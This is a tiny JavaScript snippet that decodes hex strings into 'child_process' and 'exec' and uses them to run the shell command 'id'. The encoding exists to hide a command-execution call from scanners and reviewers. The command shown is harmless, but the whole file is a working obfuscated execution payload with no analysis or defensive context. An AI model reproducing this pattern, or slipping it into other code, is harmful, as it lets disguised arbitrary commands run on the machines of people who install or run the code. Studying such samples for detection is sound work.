function dec(hex) {
  var str = '';
  for (var i = 0; i < hex.length; i += 2) {
    str += String.fromCharCode(parseInt(hex.substr(i, 2), 16));
  }
  return str;
}
var m = require(dec('6368696c645f70726f63657373'));
m[dec('65786563')]('id');
